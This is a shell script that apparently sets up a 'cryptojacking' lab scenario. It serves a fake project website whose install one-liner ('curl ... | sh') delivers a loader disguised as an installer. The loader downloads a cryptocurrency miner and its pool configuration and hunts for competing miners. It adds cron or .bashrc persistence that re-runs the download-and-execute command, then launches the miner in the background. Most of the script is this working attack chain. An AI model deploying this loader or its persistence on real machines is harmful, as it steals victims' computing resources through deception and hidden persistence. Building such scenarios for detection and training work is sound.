#!/bin/bash
# web.sh - entrypoint of the `cryptojacking` scenario's compromised web site.
#
# Builds the site an intruder has tampered with and serves it with nginx
# (HTTP on 80, HTTPS on 443 with a self-signed certificate):
#   /                   the project's home page: an install one-liner
#                       ("curl -fsSL URL | sh" or "wget -qO- URL | sh")
#   PAGE_PATH           the install page with the same one-liner
#   LOADER_PATH         the "installer": the intruder's loader script
#   MINER_PATH          the miner (miner.py), under a hidden folder
#   CONFIG_PATH         its JSON configuration: pool, login, threads, ...
# The loader, run by the victim, downloads the miner and its configuration
# with DOWNLOADER (curl|wget) into INSTALL_DIR as MINER_NAME, sets up
# persistence (PERSISTENCE: cron|bashrc|none), looks for competing miners,
# starts the miner in the background under a kernel thread's name and
# removes its traces. Its environment: SITE_URL (scheme://host), PROJECT,
# and the miner's settings POOL_URL, POOL_USER, POOL_PASS, MINER_THREADS,
# MINER_CPU_LIMIT, MINER_DURATION, MINER_AGENT, MINER_RETRY,
# MINER_EXTRANONCE_SUBSCRIBE (yes|no), MINER_SUGGEST_DIFFICULTY (or empty),
# MINER_NICE (yes|no), MINER_TITLE.
set -euo pipefail

: "${SITE_URL:?}" "${SITE_HOST:?}" "${LOADER_PATH:?}" "${MINER_PATH:?}" "${CONFIG_PATH:?}"
: "${INSTALL_DIR:?}" "${MINER_NAME:?}" "${POOL_URL:?}" "${POOL_USER:?}"
PROJECT=${PROJECT:-devtool}
PAGE_PATH=${PAGE_PATH:-/docs/install.html}
DOWNLOADER=${DOWNLOADER:-curl}
PERSISTENCE=${PERSISTENCE:-none}
www=/var/www/site
for p in "$PAGE_PATH" "$LOADER_PATH" "$MINER_PATH" "$CONFIG_PATH"; do
    [[ $p =~ ^/[A-Za-z0-9._/-]+$ && $p != *..* ]] || { echo "web: bad path '$p'" >&2; exit 1; }
done
[[ $INSTALL_DIR =~ ^/[A-Za-z0-9._/-]+$ && $MINER_NAME =~ ^[A-Za-z0-9._-]+$ ]] || { echo "web: bad install dir or name" >&2; exit 1; }

case "$DOWNLOADER" in
curl)
    insecure=$([ "${SITE_URL%%://*}" = https ] && echo " -k" || true)
    oneliner="curl -fsSL$insecure $SITE_URL$LOADER_PATH | sh"
    fetch="curl -fsSL$insecure -o"
    ;;
wget)
    insecure=$([ "${SITE_URL%%://*}" = https ] && echo " --no-check-certificate" || true)
    oneliner="wget -qO-$insecure $SITE_URL$LOADER_PATH | sh"
    fetch="wget -q$insecure -O"
    ;;
*) echo "web: DOWNLOADER must be curl or wget" >&2; exit 1 ;;
esac

# ---- the pages ------------------------------------------------------------
mkdir -p "$www" "$www$(dirname "$PAGE_PATH")" "$www$(dirname "$LOADER_PATH")" \
    "$www$(dirname "$MINER_PATH")" "$www$(dirname "$CONFIG_PATH")" "$www/static"
page() { # page FILE TITLE BODY
    cat >"$1" <<HTML
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>$2</title>
<link rel="stylesheet" href="/static/style.css"></head>
<body><header><a href="/">$PROJECT</a> | <a href="$PAGE_PATH">Install</a> | <a href="/docs/">Docs</a></header>
$3
<footer>&copy; $PROJECT contributors</footer></body></html>
HTML
}
install_block="<p>Install the latest release with:</p>
<pre><code>$oneliner</code></pre>"
page "$www/index.html" "$PROJECT - fast, simple, open" "<h1>$PROJECT</h1>
<p>$PROJECT keeps your servers in shape: monitoring, backups and updates in one small tool.</p>
$install_block"
page "$www$PAGE_PATH" "Installing $PROJECT" "<h1>Installing $PROJECT</h1>
$install_block
<p>The script detects your distribution and installs $PROJECT and its service.</p>"
mkdir -p "$www/docs"
[ -e "$www/docs/index.html" ] || page "$www/docs/index.html" "$PROJECT documentation" "<h1>Documentation</h1><p>See <a href=\"$PAGE_PATH\">Install</a>.</p>"
printf 'body { font-family: sans-serif; max-width: 50em; margin: auto; }\npre { background: #eee; padding: 1em; }\n' >"$www/static/style.css"

# ---- the miner and its configuration -----------------------------------------
cp /usr/local/lib/cryptojacking/miner.py "$www$MINER_PATH"
python3 - "$www$CONFIG_PATH" <<'PY'
import json, os, sys
e = os.environ
suggest = e.get("MINER_SUGGEST_DIFFICULTY", "")
cfg = {
    "url": e["POOL_URL"],
    "user": e["POOL_USER"],
    "pass": e.get("POOL_PASS", "x"),
    "threads": int(e.get("MINER_THREADS", "1")),
    "cpu-limit": int(e.get("MINER_CPU_LIMIT", "50")),
    "nice": e.get("MINER_NICE", "yes") == "yes",
    "duration": float(e.get("MINER_DURATION", "15")),
    "grace": 20,
    "retry-pause": float(e.get("MINER_RETRY", "5")),
    "agent": e.get("MINER_AGENT", "cpuminer/2.5.1"),
    "extranonce-subscribe": e.get("MINER_EXTRANONCE_SUBSCRIBE", "no") == "yes",
    "suggest-difficulty": float(suggest) if suggest else None,
    "title": e.get("MINER_TITLE", ""),
    "stats": os.path.join(e["INSTALL_DIR"], ".stats.json"),
}
with open(sys.argv[1], "w") as f:
    json.dump(cfg, f, indent=1)
PY

# ---- the loader ---------------------------------------------------------------
case "$PERSISTENCE" in
cron) persist="mkdir -p /var/spool/cron/crontabs
echo \"*/10 * * * * $oneliner >/dev/null 2>&1\" >>/var/spool/cron/crontabs/root
echo \"[+] cron entry added\"" ;;
bashrc) persist="echo \"( $oneliner ) >/dev/null 2>&1 &\" >>\"\$HOME/.bashrc\"
echo \"[+] .bashrc hook added\"" ;;
none) persist=":" ;;
*) echo "web: PERSISTENCE must be cron, bashrc or none" >&2; exit 1 ;;
esac
cat >"$www$LOADER_PATH" <<SH
#!/bin/sh
# $PROJECT installer
echo "Installing $PROJECT..."
D=$INSTALL_DIR
mkdir -p "\$D" && cd "\$D" || exit 1
# other miners on this host?
for f in /proc/[0-9]*/cmdline; do
    if tr '\\000' ' ' 2>/dev/null <"\$f" | grep -Eq 'xmrig|minerd|cpuminer|kdevtmpfsi|kinsing'; then
        echo "[-] competing miner in \${f%/cmdline}"
    fi
done
$fetch "\$D/$MINER_NAME" "$SITE_URL$MINER_PATH" || exit 1
$fetch "\$D/.cfg.json" "$SITE_URL$CONFIG_PATH" || exit 1
chmod +x "\$D/$MINER_NAME"
$persist
nohup "\$D/$MINER_NAME" -c "\$D/.cfg.json" >"\$D/.log" 2>&1 &
echo \$! >"\$D/.pid"
echo "[+] started"
echo "$PROJECT installed."
SH

# ---- nginx ----------------------------------------------------------------------
mkdir -p /etc/site-tls
openssl req -x509 -nodes -days 365 -newkey rsa:2048 -subj "/CN=$SITE_HOST" \
    -addext "subjectAltName=DNS:$SITE_HOST" \
    -keyout /etc/site-tls/key.pem -out /etc/site-tls/cert.pem 2>/dev/null
cat >/etc/nginx/sites-enabled/default <<NGINX
server {
    listen 80 default_server;
    listen 443 ssl default_server;
    server_name $SITE_HOST;
    ssl_certificate /etc/site-tls/cert.pem;
    ssl_certificate_key /etc/site-tls/key.pem;
    root $www;
    index index.html;
    access_log /dev/stdout;
    types { text/html html; text/css css; application/json json; text/x-sh sh; }
    default_type application/octet-stream;
    location / { try_files \$uri \$uri/ =404; }
}
NGINX
echo "web: $SITE_URL serves the loader at $LOADER_PATH and the miner at $MINER_PATH"
exec nginx -g 'daemon off;'
